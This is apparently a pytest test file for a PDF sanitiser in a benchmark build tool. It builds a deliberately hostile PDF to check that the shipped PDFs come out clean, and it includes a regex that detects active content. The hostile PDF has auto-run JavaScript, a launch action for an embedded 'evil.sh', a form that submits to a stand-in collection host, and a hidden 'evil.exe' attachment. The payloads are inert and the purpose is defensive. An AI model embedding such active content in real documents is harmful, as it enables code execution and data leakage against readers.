"""Shipped PDFs carry no active content: a hostile source goes through a real build and
export, and every PDF that comes out is clean, page for page the same to a reader."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pymupdf
import pytest

from abstain_build import BuildConfig, build
from abstain_build.export import export_dataset
from abstain_build.media.pdf_sanitise import sanitise_pdf

from .conftest import FIXTURES, read_jsonl, write_jsonl

ACME = FIXTURES / "mmlongbench-doc" / "documents" / "ACME_2021_10K.pdf"
#: What the build removes from :func:`hostile_pdf`, as its records list it.
REMOVED = [
    "javascript: 3",  # the OpenAction, the name tree's script, page 1's open action
    "launch_actions: 1",
    "uri_actions: 1",  # a javascript: link
    "remote_goto_actions: 1",
    "import_data_actions: 1",
    "submit_form_actions: 1",
    "embedded_files: 2",  # evil.sh, and the file of the attachment annotation
    "file_attachments: 1",
    "xfa_forms: 1",
]
ACTIVE = re.compile(
    r"/(?:JavaScript|JS|AA|Launch|URI|GoToR|GoToE|ImportData|SubmitForm|EmbeddedFiles?|EF"
    r"|XFA|FileAttachment)\b"
)


def _js(code: str) -> str:
    return f"<</S/JavaScript/JS({code})>>"


def hostile_pdf(source: Path, target: Path) -> Path:
    """``source`` with every kind of active content a shipped PDF must not carry."""
    doc = pymupdf.open(source)
    first, second = doc[0], doc[1]
    field = pymupdf.Widget()
    field.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    field.field_name = "email"
    field.rect = pymupdf.Rect(400, 20, 560, 40)
    field.field_value = "you@example.org"
    widget = first.add_widget(field)
    doc.xref_set_key(widget.xref, "A", "<</S/SubmitForm/F<</FS/URL/F(http://collect.example)>>>>")
    doc.xref_set_key(widget.xref, "AA", "<</K<</S/ImportData/F(data.fdf)>>>>")
    catalog = doc.pdf_catalog()
    doc.xref_set_key(catalog, "OpenAction", _js("app.alert(1)"))
    script = doc.get_new_xref()
    doc.update_object(script, _js("app.alert(2)"))
    doc.xref_set_key(catalog, "Names", f"<</JavaScript<</Names[(init) {script} 0 R]>>>>")
    xfa = doc.get_new_xref()
    doc.update_object(xfa, "<<>>")
    doc.update_stream(xfa, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>", new=True)
    doc.xref_set_key(catalog, "AcroForm/XFA", f"{xfa} 0 R")
    doc.embfile_add("evil.sh", b"#!/bin/sh\necho owned\n", filename="evil.sh")
    doc.xref_set_key(first.xref, "AA", f"<</O{_js('app.alert(3)')}>>")
    for link in (
        {"kind": pymupdf.LINK_URI, "uri": "javascript:app.alert(4)"},
        {"kind": pymupdf.LINK_LAUNCH, "file": "evil.sh"},
        {"kind": pymupdf.LINK_GOTOR, "file": "other.pdf", "page": 0},
        {"kind": pymupdf.LINK_GOTO, "page": 1},  # an ordinary internal link: it stays
    ):
        top = 20 + 30 * len(first.get_links())
        first.insert_link({**link, "from": pymupdf.Rect(20, top, 80, top + 20)})
    attachment = second.add_file_annot(pymupdf.Point(30, 30), b"MZ payload", "evil.exe")
    attachment.set_flags(pymupdf.PDF_ANNOT_IS_HIDDEN)  # so that every pixel can be compared
    attachment.update()
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(doc.tobytes(garbage=3, deflate=True, no_new_id=True))
    doc.close()
    return target


def active_content(data: bytes) -> list[str]:
    """Everything active a PDF holds, as PyMuPDF sees it: embedded files, objects naming
    scripts, actions, files or forms, file-attachment annotations, links other than GoTo."""
    with pymupdf.open(stream=data, filetype="pdf") as doc:
        found = [f"{doc.embfile_count()} embedded file(s)"] if doc.embfile_count() else []
        for xref in range(1, doc.xref_length()):
            found += [f"object {xref}: {m}" for m in ACTIVE.findall(doc.xref_object(xref))]
        for page in doc:
            found += [
                f"page {page.number + 1}: {annot.type[1]} annotation"
                for annot in page.annots()
                if annot.type[0] == pymupdf.PDF_ANNOT_FILE_ATTACHMENT
            ]
            found += [
                f"page {page.number + 1}: link of kind {link['kind']}"
                for link in page.get_links()
                if link["kind"] != pymupdf.LINK_GOTO
            ]
    return found


def page_texts(data: bytes) -> list[str]:
    with pymupdf.open(stream=data, filetype="pdf") as doc:
        return [page.get_text() for page in doc]


def page_pixels(data: bytes) -> list[bytes]:
    with pymupdf.open(stream=data, filetype="pdf") as doc:
        return [page.get_pixmap(dpi=36).samples for page in doc]


def test_the_hostile_source_has_every_kind_of_active_content(tmp_path: Path) -> None:
    found = " ".join(active_content(hostile_pdf(ACME, tmp_path / "hostile.pdf").read_bytes()))
    for kind in ("embedded file", "JavaScript", "Launch", "URI", "GoToR", "ImportData"):
        assert kind in found
    for kind in ("SubmitForm", "XFA", "FileAttachment annotation", "/AA"):
        assert kind.lstrip("/") in found


def test_a_clean_pdf_is_kept_byte_for_byte() -> None:
    data = ACME.read_bytes()
    clean = sanitise_pdf(data, ACME.name)
    assert clean.data == data and clean.removed == ()


def test_sanitising_is_deterministic(tmp_path: Path) -> None:
    data = hostile_pdf(ACME, tmp_path / "hostile.pdf").read_bytes()
    first, second = sanitise_pdf(data, "hostile.pdf"), sanitise_pdf(data, "hostile.pdf")
    assert first.data == second.data and list(first.removed) == REMOVED
    assert sanitise_pdf(first.data, "again").removed == ()


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A one-sample MMLongBench-Doc folder whose PDF is hostile, built with a document
    transform: (the hostile source PDF, the build folder)."""
    base = tmp_path_factory.mktemp("hostile")
    source = hostile_pdf(ACME, base / "mmlbd" / "documents" / ACME.name)
    samples = json.loads((FIXTURES / "mmlongbench-doc" / "samples.json").read_text())
    (base / "mmlbd" / "samples.json").write_text(json.dumps(samples[:1]))  # evidence: page 4
    out = base / "out"
    result = build(
        BuildConfig(
            source=str(base / "mmlbd"),
            out=str(out),
            seed=3,
            routing="none",
            transforms=["hide_evidence_page"],
            qc="none",
            blind_policy="record",
        )
    )
    assert result.exit_code == 0, read_jsonl(out / "errors.jsonl")
    return source, out


def test_shipped_control_and_counterpart_pdfs_carry_no_active_content(hostile_build) -> None:
    _, out = hostile_build
    records = read_jsonl(out / "data.jsonl")
    assert [r["kind"] for r in records] == ["original", "counterpart"]
    for record in records:
        shipped = (out / record["document"]).read_bytes()
        assert active_content(shipped) == [], record["id"]
        with pymupdf.open(stream=shipped, filetype="pdf") as doc:
            assert [link["kind"] for link in doc[0].get_links()] == [pymupdf.LINK_GOTO]
            assert doc[0].first_widget is not None  # the form field itself stays


def test_sanitising_keeps_every_page_as_a_reader_sees_it(hostile_build) -> None:
    source, out = hostile_build
    control, counterpart = read_jsonl(out / "data.jsonl")
    original = source.read_bytes()
    shipped = (out / control["document"]).read_bytes()
    assert page_texts(shipped) == page_texts(original)
    assert page_pixels(shipped) == page_pixels(original)
    edited = page_texts((out / counterpart["document"]).read_bytes())
    for number, (text, before) in enumerate(zip(edited, page_texts(original), strict=True), 1):
        if number not in counterpart["evidence_pages"]:
            assert text == before, number


def test_records_say_what_was_removed(hostile_build) -> None:
    _, out = hostile_build
    assert [r["sanitised"] for r in read_jsonl(out / "data.jsonl")] == [REMOVED, REMOVED]


def test_export_ships_clean_pdfs_from_a_build_that_predates_sanitising(
    hostile_build, tmp_path: Path
) -> None:
    """An older build wrote the source PDF as it was: export removes its active content,
    and the exported rows say what went."""
    import pyarrow.parquet as pq

    source, out = hostile_build
    older = tmp_path / "older"
    shutil.copytree(out, older)
    records = read_jsonl(older / "data.jsonl")
    shutil.copyfile(source, older / records[0]["document"])
    write_jsonl(older / "data.jsonl", [{**r, "sanitised": []} for r in records])
    exported = tmp_path / "export"
    export_dataset(older, exported, documents="full")
    rows = {
        row["id"]: row
        for path in sorted((exported / "data").glob("*.parquet"))
        for row in pq.read_table(path, columns=["id", "document", "sanitised"]).to_pylist()
    }
    assert rows[records[0]["id"]]["sanitised"] == REMOVED
    assert rows[records[1]["id"]]["sanitised"] == []  # already clean
    for path in sorted((exported / "documents").iterdir()):
        assert active_content(path.read_bytes()) == [], path.name
    assert len(list((exported / "documents").iterdir())) == 2
